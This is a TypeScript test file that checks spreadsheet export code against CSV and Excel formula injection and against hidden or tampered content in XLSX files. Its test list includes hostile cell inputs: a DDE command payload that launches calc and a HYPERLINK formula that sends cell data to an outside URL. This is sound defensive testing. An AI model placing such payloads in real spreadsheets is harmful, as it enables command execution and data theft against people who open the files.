import fc from 'fast-check';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import type { Sheet } from '../sheet.ts';
import { zipOf } from '../zip.ts';
import { csvOf } from './csv.ts';
import { csvFault } from './csv-check.ts';
import { isDangerous, originalText, safeText } from './safe-text.ts';
import { xlsxOf } from './xlsx.ts';
import { xlsxFault } from './xlsx-check.ts';

const DANGEROUS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u200b=1',
  '\u00a0=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  '−1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org/"&A1)',
];
const column = (name: string, type: 'text' | 'integer'): Sheet['columns'][number] => ({
  name,
  type,
  meaning: '',
  source: '',
  sensitivity: 'open',
});
const sheetOf = (...texts: string[]): Sheet => ({
  columns: [column('said', 'text'), column('papers', 'integer')],
  rows: texts.map((text, index) => [text, index - 1]),
});

describe('no text is taken for a formula', () => {
  test.each(DANGEROUS)('%j begins with an apostrophe, and comes back', (text) => {
    expect(safeText(text)).toBe(`'${text}`);
    expect(originalText(safeText(text))).toBe(text);
  });

  test('any text comes back as it was, and is never dangerous', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        fc.constantFrom('', ...DANGEROUS, "'"),
        (text, before) => {
          expect(originalText(safeText(before + text))).toBe(before + text);
          expect(isDangerous(safeText(before + text))).toBe(false);
        },
      ),
      { seed: 7 },
    );
  });

  test('a negative number stays a number, and a text that looks like one stays text', () => {
    const csv = strFromU8(csvOf(sheetOf('-1'), false));
    expect(csv).toBe('"said","papers"\r\n"\'-1",-1\r\n');
  });
});

describe('CSV', () => {
  test('begins with a byte order mark for people and without one for programs', () => {
    expect([...csvOf(sheetOf('é'), true).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csvOf(sheetOf('é'), false)[0]).toBe('"'.charCodeAt(0));
  });

  test('another reader gets the same sheet back from any texts', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' })), (texts) => {
        const sheet = sheetOf(...texts, ...DANGEROUS, 'a "quoted", b', 'two\nlines', '');
        expect(csvFault(sheet, csvOf(sheet, true), true)).toBeUndefined();
      }),
      { seed: 8 },
    );
  });

  test.each([
    ['a formula', (csv: string) => csv.replace("'=1+1", '=1+1')],
    ['a value more', (csv: string) => csv.replace(',-1', ',-1,9')],
    ['a row more', (csv: string) => `${csv}"x",5\r\n`],
    ['another number', (csv: string) => csv.replace(',-1', ',3')],
    ['a number as text', (csv: string) => csv.replace(',-1', ',"-1"')],
    ['no mark', (csv: string) => csv.slice(1)],
  ])('%s is found when it is opened again', (_, change) => {
    const sheet = sheetOf('=1+1');
    const bytes = strToU8(change(`\ufeff${strFromU8(csvOf(sheet, false))}`));
    expect(csvFault(sheet, bytes, true)).toBeDefined();
  });
});

describe('XLSX', () => {
  test('is the sheet and nothing else', async () => {
    const sheet = sheetOf(
      ...DANGEROUS.filter((text) => !text.includes('\r')),
      '<f>&amp;',
      'عربي',
      'two\nlines',
    );
    expect(xlsxFault(sheet, await xlsxOf(sheet))).toBeUndefined();
  });

  const SHEET = 'xl/worksheets/sheet1.xml';
  const edited =
    (part: string, from: string | RegExp, to: string) => (files: Record<string, Uint8Array>) => ({
      ...files,
      [part]: strToU8(strFromU8(files[part] ?? new Uint8Array()).replace(from, to)),
    });
  test.each([
    ['a formula', edited(SHEET, '<v>-1</v>', '<f>1+1</f><v>-1</v>')],
    ['another number', edited(SHEET, '<v>-1</v>', '<v>4</v>')],
    ['a hidden row', edited(SHEET, '<row r="2"', '<row r="2" hidden="1"')],
    ['a comment in the markup', edited(SHEET, '<sheetData>', '<!-- Jane --><sheetData>')],
    [
      'a text that no cell shows',
      edited('xl/sharedStrings.xml', '</sst>', '<si><t>Jane</t></si></sst>'),
    ],
    ['properties with an author', edited('docProps/core.xml', '', '<creator>Jane</creator>')],
    [
      'a link',
      edited('xl/_rels/workbook.xml.rels', 'Target="sty', 'TargetMode="External" Target="sty'),
    ],
    ['a second sheet', edited('xl/worksheets/sheet2.xml', '', '<worksheet/>')],
    [
      'a defined name',
      edited(
        'xl/workbook.xml',
        '<definedNames/>',
        '<definedNames><definedName name="x">Jane</definedName></definedNames>',
      ),
    ],
    [
      'a very hidden sheet',
      edited('xl/workbook.xml', 'sheetId="1"', 'sheetId="1" state="veryHidden"'),
    ],
  ])('%s is found when it is opened again', async (_, change) => {
    const sheet = sheetOf('said');
    const bytes = zipOf(change(unzipSync(await xlsxOf(sheet))));
    expect(xlsxFault(sheet, bytes)).toBeDefined();
  });

  test('a comment of the ZIP, or another day in it, is found', async () => {
    const sheet = sheetOf('said');
    const bytes = await xlsxOf(sheet);
    expect(xlsxFault(sheet, zipSync(unzipSync(bytes), { comment: 'Jane' }))).toBeDefined();
    expect(
      xlsxFault(sheet, zipSync(unzipSync(bytes), { mtime: new Date(2020, 1, 1) })),
    ).toBeDefined();
    expect(xlsxFault(sheet, Uint8Array.from([...bytes, 74]))).toBeDefined();
  });
});
